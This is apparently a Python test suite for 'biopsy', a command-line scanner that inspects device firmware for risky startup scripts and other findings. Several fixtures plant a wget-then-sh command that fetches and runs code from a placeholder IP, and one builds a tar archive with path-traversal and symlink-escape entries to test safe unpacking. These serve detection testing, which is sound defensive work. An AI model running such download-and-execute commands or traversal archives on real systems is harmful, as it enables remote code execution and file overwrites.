"""Why: the command line is the public interface: exit statuses, one clear sentence, nothing left behind."""
import json
import os
import pathlib
import subprocess
import sys
import tempfile
import unittest

BIOPSY = os.environ["BIOPSY"]


def run(*words, **more):
    return subprocess.run([BIOPSY, *words], capture_output=True, timeout=120, **more)


class CommandLine(unittest.TestCase):
    def setUp(self):
        self.folder = tempfile.TemporaryDirectory()
        self.path = pathlib.Path(self.folder.name)

    def tearDown(self):
        self.folder.cleanup()

    def test_one_rule_is_tried_on_an_input_and_on_a_saved_result(self):
        device = self.root("wget -O /tmp/a http://203.0.113.9/a && sh /tmp/a\n")
        rule = pathlib.Path(__file__).resolve().parent.parent / "rules" / "remote-content-executed.yaml"
        saved = self.path / "saved.json"
        run("scan", device, "-q", "-o", saved)
        for place in (device, saved):
            tried = run("rules", "try", rule, place)
            self.assertEqual(tried.returncode, 1, tried.stderr)
            self.assertIn(b"critical", tried.stdout)
            self.assertIn(b"1 finding\n", tried.stdout)
        other = rule.with_name("login-key-in-image.yaml")
        self.assertEqual(run("rules", "try", other, saved).returncode, 0)
        self.assertEqual(run("rules", "try", self.path / "missing.yaml", saved).returncode, 3)
        self.assertIn(b"Cries wolf", run("rules", "reference").stdout)

    def root(self, script):
        place = self.path / "device" / "etc" / "init.d"
        place.mkdir(parents=True, exist_ok=True)
        (place / "rcS").write_text("#!/bin/sh\n" + script)
        (place / "rcS").chmod(0o755)
        return str(self.path / "device")

    def one_sentence(self, result):
        text = result.stderr.decode()
        self.assertEqual(text.count("\n"), 1, text)
        self.assertTrue(text.startswith("biopsy: "), text)

    def test_missing_empty_and_unreadable_inputs_get_one_sentence_and_3(self):
        (self.path / "empty").write_bytes(b"")
        for name in ("missing", "empty"):
            result = run("scan", str(self.path / name))
            self.assertEqual(result.returncode, 3, name)
            self.one_sentence(result)
            self.assertEqual(result.stdout, b"")

    def test_an_empty_standard_input_is_unreadable(self):
        result = run("scan", "-", input=b"")
        self.assertEqual(result.returncode, 3)
        self.one_sentence(result)

    def test_unrecognised_bytes_are_a_report_that_says_unknown(self):
        (self.path / "noise").write_bytes(bytes((i * 7919 >> 3) & 0xFF | 1 for i in range(5000)))
        result = run("scan", str(self.path / "noise"), "--format", "json")
        self.assertEqual(result.returncode, 0)
        report = json.loads(result.stdout)
        self.assertEqual(report["coverage"]["verdict"], "unknown")
        self.assertEqual(run("scan", "--strict", str(self.path / "noise")).returncode, 4)
        self.assertIn(b"not a clean result", run("scan", str(self.path / "noise")).stdout)

    def test_a_finding_at_the_threshold_gives_1_and_below_it_0(self):
        device = self.root("wget -O /tmp/x http://203.0.113.9/x\nsh /tmp/x\n")
        self.assertEqual(run("scan", device).returncode, 1)
        quiet = self.root("echo hello\n")
        self.assertEqual(run("scan", quiet).returncode, 0)
        telnet = self.root("telnetd\n")
        self.assertEqual(run("scan", telnet).returncode, 0)
        self.assertEqual(run("scan", "--fail-on", "medium", telnet).returncode, 1)

    def test_the_worst_of_several_inputs_counts(self):
        device = self.root("wget -O /tmp/x http://203.0.113.9/x\nsh /tmp/x\n")
        result = run("scan", device, str(self.path / "missing"), "--format", "json")
        self.assertEqual(result.returncode, 3)
        self.assertEqual(json.loads(result.stdout)["findings"][0]["severity"], "critical")

    def test_usage_errors_give_2(self):
        for words in ((), ("scan",), ("scan", "--no-such-word", "x"), ("dump", "nothing", "x"), ("scan", "--format", "morse", "x")):
            self.assertEqual(run(*words).returncode, 2, words)
        for words in (("--help",), ("--version",), ("scan", "--help")):
            self.assertEqual(run(*words).returncode, 0, words)

    def test_same_input_same_bytes_with_and_without_cache(self):
        device = self.root("wget -O /tmp/x http://203.0.113.9/x\nsh /tmp/x\n")
        outputs = {run("scan", device, "--format", kind, *more).stdout for kind in ("json",) for more in ((), (), ("--no-cache",), ("--jobs", "1"))}
        self.assertEqual(len(outputs), 1)

    def test_a_saved_result_renders_as_the_scan_did(self):
        device = self.root("wget -O /tmp/x http://203.0.113.9/x\nsh /tmp/x\n")
        (self.path / "saved.json").write_bytes(run("scan", device, "--format", "json").stdout)
        self.assertEqual(run("report", str(self.path / "saved.json")).stdout, run("scan", device).stdout)
        (self.path / "broken.json").write_text("{\"schema\": 1, \"edges\": [{\"from\": 7, \"to\": 9}]}")
        self.assertEqual(run("report", str(self.path / "broken.json")).returncode, 3)

    def test_an_accepted_finding_stays_visible_and_stops_failing_until_it_expires(self):
        device = self.root("wget -O /tmp/x http://203.0.113.9/x\nsh /tmp/x\n")
        ids = [f["id"] for f in json.loads(run("scan", device, "--format", "json").stdout)["findings"] if f["severity"] in ("high", "critical")]
        accept = self.path / "accept.yaml"
        def write(day):
            accept.write_text("".join(f"- {{id: {i}, reason: test bench, person: A. Tester, expires: {day}}}\n" for i in ids))
        write("2999-12-31")
        result = run("scan", device, "--accept", str(accept))
        self.assertEqual(result.returncode, 0)
        self.assertIn(b"Accepted: test bench", result.stdout)
        write("2001-01-01")
        self.assertEqual(run("scan", device, "--accept", str(accept)).returncode, 1)
        accept.write_text("- {id: x}\n")
        self.assertEqual(run("scan", device, "--accept", str(accept)).returncode, 2)

    def test_unpack_writes_only_where_it_is_told(self):
        archive = self.path / "evil.tar"
        import io, tarfile
        with tarfile.open(archive, "w") as tar:
            for name in ("../outside", "/absolute", "inside"):
                info = tarfile.TarInfo(name)
                info.size = 4
                tar.addfile(info, io.BytesIO(b"text"))
            link = tarfile.TarInfo("way-out")
            link.type, link.linkname = tarfile.SYMTYPE, "/"
            tar.addfile(link)
            info = tarfile.TarInfo("way-out/through-link")
            info.size = 4
            tar.addfile(info, io.BytesIO(b"text"))
        before = set(p for p in self.path.iterdir())
        self.assertEqual(run("unpack", str(archive), str(self.path / "out")).returncode, 0)
        self.assertEqual(set(self.path.iterdir()) - before, {self.path / "out"})
        self.assertFalse(pathlib.Path("/through-link").exists())
        self.assertTrue(any(p.name == "inside" for p in (self.path / "out").rglob("*")))


if __name__ == "__main__":
    unittest.main(argv=sys.argv[:1])
